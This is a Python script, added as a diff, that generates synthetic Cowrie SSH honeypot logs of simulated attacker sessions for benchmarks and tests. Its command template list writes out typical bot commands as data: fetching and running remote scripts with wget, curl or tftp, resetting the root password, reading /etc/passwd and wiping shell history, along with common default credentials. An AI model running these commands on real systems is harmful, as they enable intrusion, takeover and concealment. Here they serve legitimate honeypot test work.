@@ -0,0 +1,226 @@
+import argparse
+import glob
+import hashlib
+import heapq
+import json
+import os
+import random
+import time
+from datetime import date, datetime, timezone
+from typing import Dict, List, Optional, Tuple
+
+SIZE_UNITS = {"KB": 1024, "MB": 1024**2, "GB": 1024**3}
+
+CLIENT_VERSIONS = [
+    "SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_7.4", "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.5",
+    "SSH-2.0-PuTTY_Release_0.78", "SSH-2.0-paramiko_2.11.0", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-AsyncSSH_2.13.0",
+]
+USERNAMES = ["root", "admin", "user", "ubuntu", "test", "oracle", "postgres", "pi", "git", "support", "guest", "ftpuser"]
+PASSWORDS = ["123456", "password", "admin", "root", "1234", "12345678", "qwerty", "raspberry", "toor", "P@ssw0rd", "111111", "admin123"]
+TERMINAL_SIZES = [(80, 24), (120, 40), (200, 50), (160, 48), (132, 43)]
+# Commands typed by bots, {host}, {name} and {n} are filled in to build the command vocabulary
+COMMAND_TEMPLATES = [
+    "uname -a", "uname -s -v -n -r -m", "cat /proc/cpuinfo | grep name | wc -l", "nproc", "whoami", "w", "id",
+    "free -m | grep Mem | awk '{{print $2 ,$3, $4, $5, $6, $7}}'", "ls -lh $(which ls)", "crontab -l", "top",
+    "cat /etc/passwd", "lscpu | grep Model", "df -h | head -n 2 | awk 'FNR == 2 {{print $2;}}'", "echo {n}",
+    "cd ~; chattr -ia .ssh; lockr -ia .ssh", "cd /tmp; wget http://{host}/{name}.sh; chmod +x {name}.sh; ./{name}.sh",
+    "cd /tmp || cd /var/run; curl -O http://{host}/{name}; chmod 777 {name}; ./{name}",
+    "echo \"root:{name}\"|chpasswd|bash", "rm -rf /tmp/{name}*", "cat /proc/mounts; /bin/busybox {name}",
+    "ps aux | grep {name} | grep -v grep", "tftp {host} -c get {name}; sh {name}", "history -c; rm -rf ~/.bash_history",
+    "echo -e \"\\x{n:02x}\\x45\\x4c\\x46\"", "/ip cloud print", "enable", "system", "shell", "sh",
+]
+# Fraction of typed commands Cowrie does not know
+COMMAND_FAILED_RATIO = 0.3
+
+
+def parse_size(value: str) -> int:
+    """Parse sizes like 10MB, 1GB or a plain number of bytes"""
+    value = value.strip().upper()
+    for unit, factor in SIZE_UNITS.items():
+        if value.endswith(unit):
+            return int(float(value[: -len(unit)]) * factor)
+    return int(value)
+
+
+def command_vocabulary(size: int, rng: random.Random) -> List[str]:
+    """Distinct commands built from the templates with random hosts, file names and numbers"""
+    commands = list(dict.fromkeys(template.format(host="0.0.0.0", name="x", n=0) for template in COMMAND_TEMPLATES))[:size]
+    seen = set(commands)
+    while len(commands) < size:
+        template = rng.choice(COMMAND_TEMPLATES)
+        command = template.format(host=f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}", name=f"{rng.getrandbits(24):06x}", n=rng.randint(0, 255))
+        if command not in seen:
+            seen.add(command)
+            commands.append(command)
+    return commands
+
+
+def _zipf_weights(n: int, exponent: float = 1.1) -> List[float]:
+    """Cumulative weights giving a few keys most of the events, as with real attackers and commands"""
+    weights = []
+    total = 0.0
+    for rank in range(1, n + 1):
+        total += 1.0 / rank**exponent
+        weights.append(total)
+    return weights
+
+
+class SessionWriter:
+    """Render the events of attacker sessions as Cowrie NDJSON lines"""
+
+    def __init__(self, sensor: str, ips: int, commands: int, hashes: int, seed: int):
+        self.rng = random.Random(seed)
+        self.sensor = sensor
+        self.ips = [f"{self.rng.randint(1, 223)}.{self.rng.randint(0, 255)}.{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}" for _ in range(ips)]
+        self.ip_weights = _zipf_weights(ips)
+        # Command strings and their messages are JSON-escaped once, since they are written many times
+        self.commands = [(json.dumps(command), json.dumps(f"CMD: {command}"), json.dumps(f"Command not found: {command}")) for command in command_vocabulary(commands, self.rng)]
+        self.command_weights = _zipf_weights(commands)
+        self.hashes = [hashlib.sha256(f"sample-{i}".encode()).hexdigest() for i in range(hashes)]
+        self.hash_weights = _zipf_weights(hashes)
+        self.dst_ip = f"172.31.{self.rng.randint(0, 255)}.{self.rng.randint(1, 254)}"
+        self._second = -1
+        self._prefix = ""
+
+    def _timestamp(self, epoch: float) -> str:
+        second = int(epoch)
+        if second != self._second:
+            self._second = second
+            self._prefix = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(second))
+        return f"{self._prefix}.{int((epoch - second) * 1e6):06d}Z"
+
+    def session(self, start: float) -> List[Tuple[float, str]]:
+        """(epoch, line) of the events of one session starting at the given epoch time, in timestamp order"""
+        rng = self.rng
+        src_ip = rng.choices(self.ips, cum_weights=self.ip_weights)[0]
+        session = f"{rng.getrandbits(48):012x}"
+        common = f'"src_ip": "{src_ip}", "session": "{session}"'
+        now = start
+        lines = [(
+            now, f'{{"eventid": "cowrie.session.connect", "src_ip": "{src_ip}", "src_port": {rng.randint(1024, 65535)}, "dst_ip": "{self.dst_ip}", "dst_port": 22, "session": "{session}", "protocol": "ssh", "message": "New connection: {src_ip}:0 ({self.dst_ip}:22) [session: {session}]", "sensor": "{self.sensor}", "timestamp": "{self._timestamp(now)}"}}\n'
+        )]
+        now += rng.random()
+        lines.append((now, f'{{"eventid": "cowrie.client.version", "version": "{rng.choice(CLIENT_VERSIONS)}", "message": "Remote SSH version", "sensor": "{self.sensor}", {common}, "timestamp": "{self._timestamp(now)}"}}\n'))
+
+        logged_in = rng.random() < 0.6
+        for _ in range(rng.randint(0, 4) + (0 if logged_in else 1)):
+            now += rng.random() * 2
+            username, password = rng.choice(USERNAMES), rng.choice(PASSWORDS)
+            lines.append((now, f'{{"eventid": "cowrie.login.failed", "username": "{username}", "password": "{password}", "message": "login attempt [{username}/{password}] failed", "sensor": "{self.sensor}", {common}, "timestamp": "{self._timestamp(now)}"}}\n'))
+        if logged_in:
+            now += rng.random() * 2
+            username, password = rng.choice(USERNAMES), rng.choice(PASSWORDS)
+            lines.append((now, f'{{"eventid": "cowrie.login.success", "username": "{username}", "password": "{password}", "message": "login attempt [{username}/{password}] succeeded", "sensor": "{self.sensor}", {common}, "timestamp": "{self._timestamp(now)}"}}\n'))
+            if rng.random() < 0.5:
+                now += rng.random()
+                width, height = rng.choice(TERMINAL_SIZES)
+                lines.append((now, f'{{"eventid": "cowrie.client.size", "width": {width}, "height": {height}, "message": "Terminal Size: {width} {height}", "sensor": "{self.sensor}", {common}, "timestamp": "{self._timestamp(now)}"}}\n'))
+            for command, message, not_found in rng.choices(self.commands, cum_weights=self.command_weights, k=min(int(rng.expovariate(0.25)), 40)):
+                now += rng.random() * 3
+                if rng.random() < COMMAND_FAILED_RATIO:
+                    eventid, message = "cowrie.command.failed", not_found
+                else:
+                    eventid = "cowrie.command.input"
+                lines.append((now, f'{{"eventid": "{eventid}", "input": {command}, "message": {message}, "sensor": "{self.sensor}", {common}, "timestamp": "{self._timestamp(now)}"}}\n'))
+            if rng.random() < 0.15:
+                now += rng.random() * 10
+                shasum = rng.choices(self.hashes, cum_weights=self.hash_weights)[0]
+                lines.append((now, f'{{"eventid": "cowrie.session.file_download", "url": "http://{rng.choice(self.ips)}/{shasum[:8]}.sh", "outfile": "var/lib/cowrie/downloads/{shasum}", "shasum": "{shasum}", "destfile": "", "message": "Downloaded URL", "sensor": "{self.sensor}", {common}, "timestamp": "{self._timestamp(now)}"}}\n'))
+        now += rng.random() * 5
+        lines.append((now, f'{{"eventid": "cowrie.session.closed", "duration": {now - start:.1f}, "message": "Connection lost after {now - start:.1f} seconds", "sensor": "{self.sensor}", {common}, "timestamp": "{self._timestamp(now)}"}}\n'))
+        return lines
+
+
+def _day_file(sensor_dir: str, day: date, last_day: date) -> str:
+    """Rotated files are named like Cowrie's DailyLogFile: cowrie.json.YYYY-MM-DD, today's is cowrie.json"""
+    name = "cowrie.json" if day == last_day else f"cowrie.json.{day.isoformat()}"
+    return os.path.join(sensor_dir, name)
+
+
+def generate_sensor(sensor_dir: str, size_bytes: int, start: date, days: int, ips: int, commands: int, hashes: int, seed: int, sessions: Optional[int] = None) -> Dict[str, int]:
+    """Write about size_bytes of sessions (or exactly `sessions` sessions) spread evenly over the days, one file per day"""
+    os.makedirs(sensor_dir, exist_ok=True)
+    for old_file in glob.glob(os.path.join(sensor_dir, "cowrie.json*")):
+        os.remove(old_file)
+    writer = SessionWriter(os.path.basename(os.path.normpath(sensor_dir)), ips, commands, hashes, seed)
+    begin = datetime(start.year, start.month, start.day, tzinfo=timezone.utc).timestamp()
+    span = days * 86400
+
+    # Estimate the session size from a sample to space the sessions over the period
+    sample = SessionWriter("sample", ips, commands, hashes, seed + 1)
+    sample_bytes = sum(len(line) for _ in range(500) for _, line in sample.session(begin))
+    # Slightly denser than estimated, so the size is reached before the period ends
+    interval = 0.95 * span / max(sessions or size_bytes / (sample_bytes / 500), 1)
+
+    last_day = datetime.fromtimestamp(begin + span - 1, timezone.utc).date()
+    written = events = sequence = started = 0
+    current_day: Optional[date] = None
+    f = None
+    # Sessions overlap, so their events are interleaved through a heap to keep each file in timestamp order
+    pending: List[Tuple[float, int, str]] = []
+    now = begin
+    try:
+        while True:
+            if sessions is None:
+                generating = written < size_bytes and now < begin + span
+            else:
+                generating = started < sessions
+            if not generating and not pending:
+                break
+            if generating:
+                started += 1
+                for epoch, line in writer.session(now):
+                    heapq.heappush(pending, (epoch, sequence, line))
+                    sequence += 1
+                    written += len(line)
+                now += writer.rng.expovariate(1 / interval)
+            # No later session can write an event before the next session starts
+            while pending and (not generating or pending[0][0] < now):
+                epoch, _, line = heapq.heappop(pending)
+                day = datetime.fromtimestamp(epoch, timezone.utc).date()
+                if day != current_day:
+                    if f:
+                        f.close()
+                    f = open(_day_file(sensor_dir, min(day, last_day), last_day), "a")
+                    current_day = day
+                f.write(line)
+                events += 1
+    finally:
+        if f:
+            f.close()
+    return {"bytes": written, "events": events, "sessions": started}
+
+
+def generate(output_dir: str, size_bytes: int, sensors: int = 3, start: date = date(2024, 12, 1), days: int = 7, ips: int = 5000, commands: int = 500, hashes: int = 200, seed: int = 0, sessions: Optional[int] = None) -> Dict[str, Dict[str, int]]:
+    """Generate synthetic logs for several sensors (SENSOR_01, ...) splitting size_bytes (or sessions) between them"""
+    stats = {}
+    for index in range(sensors):
+        sensor_dir = os.path.join(output_dir, f"SENSOR_{index + 1:02d}")
+        sensor_sessions = None if sessions is None else sessions // sensors + (index < sessions % sensors)
+        stats[sensor_dir] = generate_sensor(sensor_dir, size_bytes // sensors, start, days, ips, commands, hashes, seed + index * 1000, sensor_sessions)
+    return stats
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Generate synthetic Cowrie logs (cowrie.json*) for benchmarks and tests.")
+    parser.add_argument("--output-dir", default="./synthetic_logs", help="Directory to create the sensor directories in (default: ./synthetic_logs)")
+    parser.add_argument("--size", type=parse_size, default=parse_size("10MB"), help="Total size of the logs, e.g. 10MB, 1GB (default: 10MB)")
+    parser.add_argument("--sensors", type=int, default=3, help="Number of sensor directories (default: 3)")
+    parser.add_argument("--start", type=date.fromisoformat, default=date(2024, 12, 1), help="First day of the logs (default: 2024-12-01)")
+    parser.add_argument("--days", type=int, default=7, help="Number of days, one rotated file per day (default: 7)")
+    parser.add_argument("--ips", type=int, default=5000, help="Number of distinct attacker IPs per sensor (default: 5000)")
+    parser.add_argument("--commands", type=int, default=500, help="Size of the command vocabulary (default: 500)")
+    parser.add_argument("--hashes", type=int, default=200, help="Number of distinct downloaded files (default: 200)")
+    parser.add_argument("--sessions", type=int, help="Total number of attacker sessions; overrides --size")
+    parser.add_argument("--seed", type=int, default=0, help="Random seed; the same arguments always produce the same logs")
+    args = parser.parse_args()
+
+    start_time = time.perf_counter()
+    stats = generate(args.output_dir, args.size, args.sensors, args.start, args.days, args.ips, args.commands, args.hashes, args.seed, args.sessions)
+    for sensor_dir, counts in stats.items():
+        print(f"{sensor_dir}: {counts['sessions']} sessions, {counts['events']} events, {counts['bytes'] / (1024 * 1024):.1f} MiB")
+    print(f"Generated in {time.perf_counter() - start_time:.1f}s.")
+
+
+if __name__ == "__main__":
+    main()